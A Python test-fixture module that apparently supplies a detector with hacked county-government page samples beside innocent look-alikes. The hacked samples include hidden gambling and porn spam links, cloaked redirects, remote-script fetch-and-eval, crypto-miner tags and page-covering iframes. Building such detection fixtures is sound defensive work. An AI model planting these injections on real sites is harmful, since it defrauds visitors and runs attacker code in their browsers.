"""A sixth planted set: families of break-ins as they are met on county websites, each beside an innocent oddity of the same make; written whole before any of it was tried."""

from collections.abc import Iterator

from safety_cases_hacked import Hacked

_FENCE = '<a href="http://www.huwang-c.example/">护栏网厂家</a>'
_BET = '<a href="http://www.vip-9j.example/">真人百家乐平台</a>'
_SHOPS = "".join(
    f'<a href="http://www.{name}.example/">{words}</a>'
    for name, words in (("banjia-s", "搬家公司"), ("kaisuo-s", "开锁换锁"), ("jiudai-s", "酒店用品"))
)
_PARTNER = '<a href="http://www.gongjiao-jt.example/">公交集团</a>'
_OWN = '<a href="/zwgk/">政务公开</a><a href="/hdjl/">互动交流</a>'
_AWAY = "http://vip.jinru.example:6899/?c=gov"


def bad() -> Iterator[Hacked]:
    hidden, script, spam, away = (frozenset({kind}) for kind in ("hidden", "script", "spam", "redirect"))
    # what only the way of writing hides
    ways = {
        "hiding box opened by one script and closed by another": f"<script>document.write('<div style=\"display:none\">');</script>{_SHOPS}<script>document.write('</div>');</script>",
        "style sheet written by a script": f"<script>document.write('<style>.w8e{{display:none}}</style>');</script><div class='w8e'>{_SHOPS}</div>",
        "taken out by a script": f'<div id="rm4">{_BET}</div><script>document.getElementById("rm4").remove();</script>',
        "taken out by its parent": f'<div id="rm5">{_BET}</div><script>var o=document.getElementById("rm5");o.parentNode.removeChild(o);</script>',
        "style set as an attribute": f'<div id="sa6">{_BET}</div><script>document.getElementById("sa6").setAttribute("style","display:none")</script>',
        "css expression": f'<div style="position:absolute;left:expression(1-8000);top:expression(1-900)">{_FENCE}</div>',
        "margin to the left": f'<div style="margin-left:-9999px">{_FENCE}</div>',
        "margin to the top": f'<div style="margin-top:-8000px;position:absolute">{_FENCE}</div>',
        "one pixel of letters": f'<div style="font-size:1px;line-height:1px">{_SHOPS}</div>',
        "one line of a thousand": f'<div style="height:1px;overflow:hidden;line-height:1000px">{_SHOPS}</div>',
        "max height of one": f'<ul style="max-height:1px;overflow:hidden">{_SHOPS}</ul>',
        "hidden attribute": f"<div hidden>{_BET}{_SHOPS}</div>",
        "far in ems": f'<ul style="list-style:none;position:absolute;left:-1000em">{_FENCE}</ul>',
        "capital letters and two signs": f'<DIV STYLE="DISPLAY:NONE!IMPORTANT;;">{_BET}</DIV>',
        "padding pushes out of the box": f'<div style="width:1px;height:1px;overflow:hidden;padding:0">{_SHOPS}</div>',
        "hidden by a style in the middle": f"<p>正文</p><style>#x7k a{{font-size:0;color:#fff}}</style><p id='x7k'>{_FENCE}</p>",
    }
    for name, body in ways.items():
        yield Hacked(name, hidden, body=body)
    # who is led away, and by what
    leads = {
        "window opened in place": f"<script>window.onload=function(){{setTimeout(function(){{window.open('{_AWAY}','_self')}},2000)}}</script>",
        "link that clicks itself": f"<a id='zd' href='{_AWAY}'></a><script>document.getElementById('zd').click();</script>",
        "form that sends itself": f"<form name='f9' action='{_AWAY}' method='get'></form><script>document.forms['f9'].submit();</script>",
        "phones only": f"<script>if(/Android|iPhone|iPad|Mobile/i.test(navigator.userAgent)){{window.location.href='{_AWAY}';}}</script>",
        "engines only, by a regular expression": f"<script>var s=document.referrer;if(/(baidu|sogou|so|sm)\\.(com|cn)/i.test(s)){{top.location.href='{_AWAY}'}}</script>",
        "engines only, by search": f"<script>if(document.referrer.search(/sogou|baidu/)>=0){{self.location='{_AWAY}'}}</script>",
        "refresh without scripts": f"<noscript><meta http-equiv='refresh' content='0;url={_AWAY}'></noscript>",
        "parent's address": f"<script>parent.location.replace('{_AWAY}')</script>",
        "chain of functions": f"<script>function a1(){{b1()}}function b1(){{window['location']['replace']('{_AWAY}')}}a1();</script>",
    }
    for name, body in leads.items():
        yield Hacked(name, away, body=body)
    # what runs in the name of the site
    runs = {
        "fetched and run": "<script>fetch('https://api.yunjs.example/t').then(r=>r.text()).then(t=>eval(t))</script>",
        "made into a function": "<script>new Function(atob('ZG9jdW1lbnQud3JpdGUoJzxzY3JpcHQgc3JjPWh0dHA6Ly9qcy5xcDg4LmV4YW1wbGUveC5qcz48L3NjcmlwdD4nKQ=='))()</script>",
        "miner": "<script src='https://coinhive.com/lib/coinhive.min.js'></script><script>new CoinHive.Anonymous('k').start()</script>",
        "frame written over the page": '<script>document.writeln(\'<div style="position:fixed;left:0;top:0;width:100%;height:100%;z-index:2147483647"><iframe src="https://zhan.example:8443/" width="100%" height="100%" frameborder="0"></iframe></div>\')</script>',
    }
    for name, body in runs.items():
        yield Hacked(name, script, body=body)
    # names and texts
    titles = {
        "nine tours": "九游会·J9(中国)官方网站-真人游戏第一品牌",
        "initials of a south": "南宫NG28(中国)官方网站-登录入口",
        "one for sure": "必一运动(B-Sports)官方网站-青田县人民政府",
        "dragon": "尊龙凯时·(中国区)人生就是博官网",
        "triumph": "凯发k8天生赢家一触即发-青田县人民政府",
        "half island": "半岛·综合体育官方app下载-青田县人民政府门户网站",
        "hexadecimal entities": "&#x5F00;&#x4E91;&#x4F53;&#x80B2;&#x5B98;&#x7F51;_&#x9752;&#x7530;&#x53BF;",
        "films in districts": "国产精品一区二区三区无码视频在线观看",
        "films of a brand": "91麻豆精品国产自产在线观看一区",
        "wombs to let": "代孕包成功_助孕包男孩价格_青田县卫生健康局",
        "Indonesian": "SLOT GACOR | Situs Judi Slot Online Terpercaya - 青田县人民政府",
        "Vietnamese": "Nhà cái uy tín - Cá cược bóng đá trực tuyến | 青田县",
        "Russian": "Онлайн казино - игровые автоматы на деньги",
    }
    for name, title in titles.items():
        yield Hacked(name, spam, title=title)
    yield Hacked(
        "title for engines, another for people",
        spam,
        title="开元棋牌官网-开元ky棋牌下载",
        body="<script>if(navigator.userAgent.toLowerCase().indexOf('spider')<0){document.title='青田县人民政府'}</script>",
    )
    yield Hacked(
        "word of the text as a link",
        spam,
        body="<p>要加强<a href='http://www.vip-9j.example/' style='color:#333;text-decoration:none'>真人百家乐平台</a>宣传，推进乡村振兴。</p>",
    )
    yield Hacked(
        "spliced name of a brand",
        spam,
        body="<p>会议强调，要压紧压实责任，九游会J9官网登录入口抓好安全生产，确保稳定。</p>",
    )


def innocent() -> Iterator[Hacked]:
    pages = {
        "counter in a hidden box written by a script": "<script>document.write('<div style=\"display:none\">');</script><script src='https://s9.cnzz.com/z_stat.php?id=12'></script><script>document.write('</div>');</script>",
        "style sheet for old browsers written by a script": "<script>document.write('<style>.ie6{display:none}</style>');</script><div class='ie6'>您的浏览器版本过低</div>",
        "loading layer taken out": "<div id='loading'>正在加载</div><script>document.getElementById('loading').remove();</script>",
        "floating window taken out by click": f"<div id='piao'>{_PARTNER}<a onclick=\"document.getElementById('piao').remove()\">关闭</a></div>",
        "expression for the width": f'<div style="width:expression(document.body.clientWidth>1200?1200:1000)">{_PARTNER}</div>',
        "centred by a margin": f'<div style="position:absolute;left:50%;margin-left:-600px;width:1200px">{_PARTNER}{_OWN}</div>',
        "columns of equal height": f'<div style="overflow:hidden"><div style="padding-bottom:9999px;margin-bottom:-9999px">{_PARTNER}{_OWN}</div></div>',
        "logo instead of letters": '<h1><a style="text-indent:-9999px;display:block;background:url(/logo.png)" href="/">青田县人民政府</a></h1>',
        "gaps between inline blocks": f'<ul style="font-size:0"><li style="font-size:14px;display:inline-block">{_PARTNER}</li><li style="font-size:14px;display:inline-block">{_OWN}</li></ul>',
        "pictures without line height": f'<div style="line-height:0"><img src="/b.jpg"><p style="line-height:24px">{_PARTNER}</p></div>',
        "file field": '<label>选择附件<input type="file" style="opacity:0;position:absolute;left:-9999px"></label>',
        "window shown after a while": f"<div id='tc' style='display:none'>{_PARTNER}</div><script>setTimeout(function(){{document.getElementById('tc').style.display='block'}},3000)</script>",
        "hidden attribute taken away": f"<div id='gd' hidden>{_PARTNER}{_OWN}</div><script>document.getElementById('gd').hidden=false</script>",
        "letters of choices": "<script>for(var i=0;i<4;i++){document.write(String.fromCharCode(65+i)+'. <br>')}</script>",
        "settings in base64": "<script>var cfg=JSON.parse(atob('eyJjb2x1bW4iOiIxMjMiLCJzaXplIjoxNX0='));</script>",
        "phones to the own edition": "<script>if(/Android|iPhone/i.test(navigator.userAgent)){location.href='http://m.qingtian.gov.cn/'}</script>",
        "phones by another path": "<script>if(/Mobile/.test(navigator.userAgent)){location.href=location.href.replace('/pc/','/wap/')}</script>",
        "out of a frame": "<script>if(top.location!=self.location){top.location=self.location}</script>",
        "back, or home": "<script>function goBack(){if(document.referrer){history.back()}else{location.href='/'}}</script><a onclick='goBack()'>返回</a>",
        "from an engine to the words": "<script>var r=document.referrer;if(/baidu|sogou/.test(r)){var m=r.match(/wd=([^&]+)/);if(m){highlight(decodeURIComponent(m[1]))}}</script>",
        "to the platform of the province": "<script>location.href='https://www.zjzwfw.gov.cn/zjservice/front/index/page.do?webId=67'</script>",
        "missing page goes home": "<p>页面不存在</p><script>setTimeout(\"location.href='/index.html'\",3000)</script>",
        "form that searches by itself": "<form name='so' action='/search/'></form><script>if(location.hash){document.forms['so'].submit();}</script>",
        "search of an engine": "<form action='https://www.baidu.com/s' target='_blank'><input name='wd'><button>站内搜索</button></form>",
        "opened by a click": "<script>function kf(){window.open('https://kefu.example/chat','_blank')}</script><a onclick='kf()'>智能客服</a>",
        "fetched rows": "<div id='l'></div><script>fetch('/api/list').then(r=>r.json()).then(d=>{document.getElementById('l').innerHTML=d.rows.join('')})</script>",
        "map of a vendor": "<script>$.getScript('https://api.map.baidu.com/api?v=2.0&ak=0')</script>",
        "title that runs": "<script>setInterval(function(){document.title=document.title.substring(1)+document.title.charAt(0)},300)</script>",
        "title of the column by script": "<script>document.title=document.getElementById('lm')?'通知公告':'青田县人民政府'</script>",
        "weather in a frame": '<iframe src="https://tianqi.example/w.html" width="280" height="25" scrolling="no" frameborder="0"></iframe>',
        "own page written over the page": '<script>document.writeln(\'<div style="position:fixed;left:0;top:0;width:100%;height:100%;z-index:9999"><iframe src="/zt/2026/tc.html" width="100%" height="100%"></iframe></div>\')</script>',
        "counter with a link": '<a href="https://www.51.la/?1234" target="_blank" style="display:none">网站统计</a>',
    }
    for name, body in pages.items():
        yield Hacked(name, body=body)
    titles = {
        "parks": "半岛体育公园、云顶山景区春节开放公告_青田县文化和旅游局",
        "accountants": "金年会计师事务所等中介机构名单公示_青田县财政局",
        "water works": "凯发水务有限公司排污许可公示_青田县生态环境局",
        "child's play": "“我爱游戏”幼儿户外活动评比结果_青田县教育局",
        "districts of a zone": "产业园一区、二区、三区规划公示_青田县自然资源局",
        "home brands": "国产精品牌展销会开幕_青田县商务局",
        "no code, no trade": "“无码不交易”农药监管工作通知_青田县农业农村局",
        "long work": "驰而不息 久久为功——作风建设综述_青田县人民政府",
        "crackdown": "严厉打击代孕等违法违规行为专项行动方案_青田县卫生健康局",
        "sites closed": "关于关闭“皇冠体育”等赌博网站的通告_青田县公安局",
        "bureau's keywords": "体育彩票公益金资助项目公示_青田县体育局",
        "street of hemp": "麻豆街道、桑麻镇水利工程招标公告_青田县水利局",
        "sure movement": "必一建筑公司运动场馆项目（一期）中标公示_青田县住建局",
        "casino abroad": "Tips for travellers: casinos and online gambling are illegal in China_Qingtian County",
    }
    for name, title in titles.items():
        text = title.split("_", maxsplit=1)[0]
        yield Hacked(name, title=title, body=f"<h2>{text}</h2><p>{text}，现予公布。</p>")


def later_bad() -> Iterator[Hacked]:
    """Written when the families above were mended, before any of these was tried."""
    hidden, script, spam, away = (frozenset({kind}) for kind in ("hidden", "script", "spam", "redirect"))
    ways = {
        "styled by a query": f'<div id="c1">{_SHOPS}</div><script>document.querySelector("#c1").style.cssText="display:none"</script>',
        "written box off the screen": f"<script>document.writeln('<div style=\"position:absolute;left:-9999px\">')</script>{_FENCE}<script>document.writeln('</div>')</script>",
        "hidden through a name": f"<div id='c2'>{_BET}</div><script>var box=document.getElementById('c2');box.style.display='none';</script>",
        "emptied": f"<div id='c3'>{_BET}</div><script>document.getElementById('c3').innerHTML='';</script>",
        "taken out by jquery": f"<div id='c4'>{_BET}</div><script>$(function(){{$('#c4').remove();}})</script>",
        "computed above the page": f"<div style='position:absolute;top:expression(0-999)'>{_FENCE}</div>",
        "box without sides": f"<div style='height:0px;width:0px;overflow:hidden'>{_SHOPS}</div>",
    }
    for name, body in ways.items():
        yield Hacked(name, hidden, body=body)
    leads = {
        "plain address": f"<script>location='{_AWAY}'</script>",
        "form by its id": f"<form id='g1' action='{_AWAY}'></form><script>document.getElementById('g1').submit();</script>",
        "link by jquery": f"<a id='g2' href='{_AWAY}'>.</a><script>$('#g2')[0].click()</script>",
        "named address opened on top": f"<script>var u='{_AWAY}';window.open(u,'_top')</script>",
        "phones by a word": f"<script>if(navigator.userAgent.indexOf('Mobile')>-1)location.replace('{_AWAY}')</script>",
        "document after three seconds": f"<script>setTimeout(function(){{document.location.href='{_AWAY}'}},3000)</script>",
    }
    for name, body in leads.items():
        yield Hacked(name, away, body=body)
    runs = {
        "got and run": "<script>$.get('https://api.kzt.example/z',function(d){eval(d)})</script>",
        "asked for and run": "<script>var x=new XMLHttpRequest();x.open('GET','https://api.kzt.example/z');x.onload=function(){eval(x.responseText)};x.send()</script>",
        "digger": "<script src='https://minero.cc/lib/minero.min.js' async></script>",
        "frame instead of the page": '<script>document.body.innerHTML=\'<iframe src="https://zhan.example:8443/" style="position:fixed;top:0;left:0;width:100%;height:100%"></iframe>\'</script>',
    }
    for name, body in runs.items():
        yield Hacked(name, script, body=body)
    for name, title in {
        "loved games": "爱游戏(ayx)中国官方网站-登录入口",
        "happy fish": "乐鱼(中国)leyu·官方网站",
        "bought balls": "欧洲杯买球app排行榜-青田县人民政府",
        "subtitles": "精品久久久久无码中文字幕在线播放",
        "papers": "办假证联系电话_代办各类证件_青田县",
        "pools": "Toto Macau 4D - Bandar Togel Online Resmi",
    }.items():
        yield Hacked(name, spam, title=title)


def later_innocent() -> Iterator[Hacked]:
    pages = {
        "loading hidden through a name": f"<div id='d1'>加载中{_PARTNER}</div><script>var l=document.getElementById('d1');l.style.display='none';</script>",
        "panel that opens again": f"<div id='d2'>{_PARTNER}{_OWN}</div><script>var p=document.getElementById('d2');p.style.display='none';function t(){{p.style.display='block'}}</script>",
        "own address": "<script>location='/index.html'</script>",
        "own tab started": "<a id='t1' href='/zwgk/'>政务公开</a><script>$('#t1')[0].click()</script>",
        "own counter run": "<script>$.get('/hits.php',function(d){eval(d)})</script>",
        "own words in the body": "<script>document.getElementById('x')&&(document.body.innerHTML+='<div style=\"position:fixed;top:0;width:100%;height:100%\">系统维护</div>')</script>",
        "library put in": "<script>var s=document.createElement('script');s.src='https://cdn.bootcdn.net/ajax/libs/vue.js';document.head.appendChild(s)</script>",
        "answers of an own service": "<script>var x=new XMLHttpRequest();x.open('GET','/api/w');x.onload=function(){var d=JSON.parse(x.responseText);show(d)};x.send()</script>",
        "equal columns in a sheet": f"<style>.eq>div{{padding-bottom:5000px;margin-bottom:-5000px}}.eq{{overflow:hidden}}</style><div class='eq'><div>{_PARTNER}{_OWN}</div></div>",
        "form sent by its button": f"<form id='g3' action='https://www.zjzwfw.gov.cn/s'><input name='q'></form><a onclick=\"document.getElementById('g3').submit()\">查询</a>{_OWN}",
        "banner closed for good": f"<div id='tb'>{_SHOPS}</div><button onclick=\"document.getElementById('tb').remove()\">关闭</button>",
    }
    for name, body in pages.items():
        yield Hacked(name, body=body)
    for name, title in {
        "play and learn": "爱游戏 会学习——幼小衔接活动周_青田县教育局",
        "resort": "云顶山国际旅游度假区总体规划公示_青田县自然资源局",
        "tickets": "关于购买足球比赛球票的温馨提示_青田县体育局",
        "course": "精品课程久久流传——非遗讲堂开讲_青田县文化馆",
        "false papers": "关于打击制售假证行为的通告_青田县公安局",
        "films": "中文字幕影片进社区公益放映安排_青田县文广旅体局",
        "square": "凯发广场招商公告_青田县国资中心",
        "happy fishing": "乐鱼养殖专业合作社注销公告_青田县市场监管局",
    }.items():
        text = title.split("_", maxsplit=1)[0]
        yield Hacked(name, title=title, body=f"<h2>{text}</h2><p>{text}，现予公布。</p>")
